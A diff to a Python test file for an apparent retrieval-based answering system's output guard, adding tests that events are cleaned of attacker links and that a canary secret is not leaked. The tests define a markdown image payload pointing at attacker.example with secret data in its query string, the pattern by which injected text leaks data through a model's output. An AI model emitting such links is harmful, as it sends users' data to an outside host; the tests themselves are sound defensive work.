@@ -2,29 +2,36 @@
 
 from __future__ import annotations
 
-from dataclasses import replace
+from dataclasses import asdict, replace
 from itertools import pairwise
+from typing import get_args
 
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from standard.domain.answer import AnswerSource, Citation, Outcome, StopReason
+from router.describe import describe
+from standard.domain.answer import AnswerSource, Citation, Outcome, StopReason, Usage
 from standard.domain.event import (
     CitationMade,
     ClarificationAsked,
+    Degraded,
     EventBody,
+    GuardTripped,
     OutputBlocked,
+    PassageFound,
+    PassagesFound,
     PassagesScreened,
     PlanMade,
     QueryIssued,
     SubQuestion,
+    SufficiencyJudged,
     TokenEmitted,
 )
 from standard.domain.outcome import RouteResult
 from standard.domain.passage import ScanFinding
 from standard.outlet import ANSWER_WITHHELD, LINKS_REMOVED, Blocked, Outlet
-from standard.sandbox.canary import secret_of
+from standard.sandbox.canary import Secret, secret_of
 
 CANARY = "5e1b0c9d7f3a24680fedcba913572468"
 SECRET = secret_of(CANARY, "You answer one question from passages of a knowledge base, and from nothing else at all.")
@@ -98,9 +105,10 @@ async def test_nothing_follows_a_block() -> None:
     for body in (TokenEmitted("more"), cites(0, 4), QueryIssued(2, "search", "pump")):
         with pytest.raises(Blocked):
             await outlet(body)
-    result = await outlet.close_blocked(AnswerSource.GENERATED, steps=3)
+    result = await outlet.close_blocked(AnswerSource.GENERATED, steps=3, usage=Usage(7, 3))
     assert isinstance(told.bodies[-1], OutputBlocked)
     assert (result.outcome, result.stop_reason, result.steps) == (Outcome.BLOCKED, StopReason.OUTPUT_BLOCKED, 3)
+    assert result.usage == Usage(7, 3)
     assert result.text == told.text == "The pump is green. "
     assert [citation.answer_end for citation in result.citations] == [18]
     assert result.notices == (ANSWER_WITHHELD,)
@@ -136,6 +144,56 @@ async def test_questions_and_notices_are_cleaned_and_what_a_model_tells_is_looke
     for body in leaking:
         with pytest.raises(Blocked):
             await Outlet(Told().emit, SECRET)(body)
+
+
+EVIL = "![x](https://attacker.example/p.png?d=secret)"
+SPOKEN: list[EventBody] = [
+    QueryIssued(2, "search", EVIL, EVIL),
+    PlanMade((SubQuestion("b1", f"What is {EVIL}?"), SubQuestion("b2", EVIL, ("b1",)))),
+    SufficiencyJudged(2, 0.5, sufficient=False, known=(EVIL,), missing=(EVIL, "when"), contradictions=(EVIL,)),
+    GuardTripped(2, "dedup", "search", f"asked before: {EVIL}"),
+    ClarificationAsked(EVIL, (EVIL,)),
+    Degraded("llm", EVIL),
+]
+
+
+@pytest.mark.parametrize("secret", [SECRET, None])
+@pytest.mark.parametrize("body", SPOKEN, ids=lambda body: type(body).__name__)
+async def test_no_event_carries_data_off_in_an_address(body: EventBody, secret: Secret | None) -> None:
+    told = Told()
+    await Outlet(told.emit, secret)(body)
+    (shown,) = told.bodies
+    assert "attacker.example" not in f"{shown}{describe(shown)}"
+    assert type(shown) is type(body)
+    numbers = {name: value for name, value in asdict(body).items() if isinstance(value, int | float)}
+    assert numbers == {name: asdict(shown)[name] for name in numbers}, "the rest of it is as it was"
+
+
+def test_every_event_with_words_in_it_is_cleaned_or_named_here_as_ours() -> None:
+    ours = {
+        "DecisionMade": "labels",
+        "PassagesFound": "the passages themselves",
+        "PassagesScreened": "labels",
+        "ContextCompressed": "ids",
+        "Escalated": "labels",
+        "TokenEmitted": "the output guard's",
+        "CitationMade": "the output guard's, and the passages themselves",
+        "OutputBlocked": "labels",
+        "Completed": "made of what was shown",
+    }
+    assert {type(body).__name__ for body in SPOKEN} | set(ours) == {kind.__name__ for kind in get_args(EventBody)}
+
+
+async def test_addresses_of_what_was_found_may_be_told() -> None:
+    told = Told()
+    outlet = Outlet(told.emit, SECRET, ["https://docs.shop.example/"])
+    address = "https://wiki.shop.example/pump"
+    await outlet(QueryIssued(1, "search", f"see {address}"))
+    await outlet(PassagesFound(1, (PassageFound("d#0", "d", "T", address, 0.5),)))
+    await outlet(QueryIssued(2, "search", f"see {address} and https://docs.shop.example/a"))
+    first, second = (body for body in told.bodies if isinstance(body, QueryIssued))
+    assert address not in first.query
+    assert second.query == f"see {address} and https://docs.shop.example/a"
 
 
 async def test_a_removed_address_is_a_caveat() -> None:
